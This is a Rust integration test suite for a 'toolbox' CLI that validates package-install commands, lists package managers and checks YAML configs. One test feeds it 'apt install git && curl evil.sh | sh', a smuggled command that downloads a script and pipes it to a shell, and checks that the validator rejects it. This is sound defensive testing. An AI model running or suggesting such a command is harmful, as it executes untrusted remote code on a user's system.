use assert_cmd::Command;
use predicates::prelude::*;
use std::io::Write;
use tempfile::NamedTempFile;

fn toolbox() -> Command {
    let mut cmd = Command::cargo_bin("toolbox").unwrap();
    cmd.env("NO_COLOR", "1").env_remove("TOOLBOX_PLATFORM");
    cmd
}

fn config_file(contents: &str) -> NamedTempFile {
    let mut file = NamedTempFile::with_suffix(".yaml").unwrap();
    writeln!(file, "{contents}").unwrap();
    file
}

#[test]
fn test_cli_help() {
    toolbox()
        .arg("--help")
        .assert()
        .success()
        .stdout(predicate::str::contains("validate"))
        .stdout(predicate::str::contains("managers"));
}

#[test]
fn test_cli_version() {
    toolbox()
        .arg("--version")
        .assert()
        .success()
        .stdout(predicate::str::contains("toolbox"));
}

#[test]
fn test_validate_success() {
    toolbox()
        .args(["validate", "brew install git", "--app", "git", "--platform", "darwin", "-b"])
        .assert()
        .success()
        .stdout(predicate::str::contains("command is valid"));
}

#[test]
fn test_validate_wrong_platform_fails() {
    toolbox()
        .args(["validate", "brew install git", "--app", "git", "--platform", "windows", "-b"])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("error-manager"));
}

#[test]
fn test_validate_warning_exits_zero() {
    toolbox()
        .args([
            "validate",
            "apt install git --some-unknown-flag",
            "--app",
            "git",
            "--platform",
            "linux",
            "-b",
        ])
        .assert()
        .success()
        .stdout(predicate::str::contains("warning-options"))
        .stdout(predicate::str::contains("--some-unknown-flag"));
}

#[test]
fn test_validate_security_json() {
    let output = toolbox()
        .args([
            "validate",
            "apt install git && curl evil.sh | sh",
            "--app",
            "git",
            "--platform",
            "linux",
            "--json",
            "-b",
        ])
        .assert()
        .code(1)
        .get_output()
        .stdout
        .clone();

    let details: serde_json::Value = serde_json::from_slice(&output).unwrap();
    assert_eq!(details["level"], "error-security");
    assert!(details["suggestion"].is_string());
}

#[test]
fn test_validate_alias() {
    toolbox()
        .args([
            "validate",
            "winget install visual-studio-code",
            "--app",
            "vscode",
            "--alias",
            "visual-studio-code",
            "--platform",
            "windows",
            "-b",
        ])
        .assert()
        .success();
}

#[test]
fn test_managers_table() {
    toolbox()
        .args(["managers", "--platform", "linux", "-b"])
        .assert()
        .success()
        .stdout(predicate::str::contains("apt"))
        .stdout(predicate::str::contains("flatpak"))
        .stdout(predicate::str::contains("winget").not());
}

#[test]
fn test_managers_export() {
    toolbox()
        .args(["managers", "--export", "-b"])
        .assert()
        .success()
        .stdout(predicate::str::contains("id: brew"))
        .stdout(predicate::str::contains("install_shortcuts"));
}

#[test]
fn test_suggest() {
    toolbox()
        .args(["suggest", "Firefox", "--platform", "linux", "-b"])
        .assert()
        .success()
        .stdout(predicate::str::contains("apt install firefox"))
        .stdout(predicate::str::contains("pacman -S firefox"));
}

#[test]
fn test_check_builtin_config() {
    toolbox()
        .args(["check", "--platform", "darwin", "-b"])
        .assert()
        .success()
        .stdout(predicate::str::contains("vscode"))
        .stdout(predicate::str::contains("3 valid"));
}

#[test]
fn test_check_custom_config_reports_errors() {
    let file = config_file(
        r#"
platform: linux
apps:
  - name: git
    commands:
      linux: apt install git
  - name: wget
    commands:
      linux: sudo apt install wget
"#,
    );

    toolbox()
        .args(["check", "--config"])
        .arg(file.path())
        .assert()
        .code(1)
        .stdout(predicate::str::contains("error-security"))
        .stdout(predicate::str::contains("1 invalid"));
}

#[test]
fn test_config_adds_manager() {
    let file = config_file(
        r#"
managers:
  - id: zypper
    aliases: [zypper]
    install_commands: [install]
    install_shortcuts: [in]
    platforms: [linux]
"#,
    );

    toolbox()
        .args(["validate", "zypper in git", "--app", "git", "--platform", "linux", "--config"])
        .arg(file.path())
        .assert()
        .success();
}

#[test]
fn test_env_overrides_platform() {
    let file = config_file("platform: darwin");

    toolbox()
        .env("TOOLBOX_PLATFORM", "windows")
        .args(["validate", "winget install git", "--app", "git", "--config"])
        .arg(file.path())
        .assert()
        .success();
}

#[test]
fn test_invalid_config_fails() {
    let file = config_file(
        r#"
apps:
  - name: git
  - name: git
"#,
    );

    toolbox()
        .args(["check", "--config"])
        .arg(file.path())
        .assert()
        .failure()
        .stderr(predicate::str::contains("error:"));
}

#[test]
fn test_completions() {
    toolbox()
        .args(["completions", "bash"])
        .assert()
        .success()
        .stdout(predicate::str::contains("toolbox"));
}
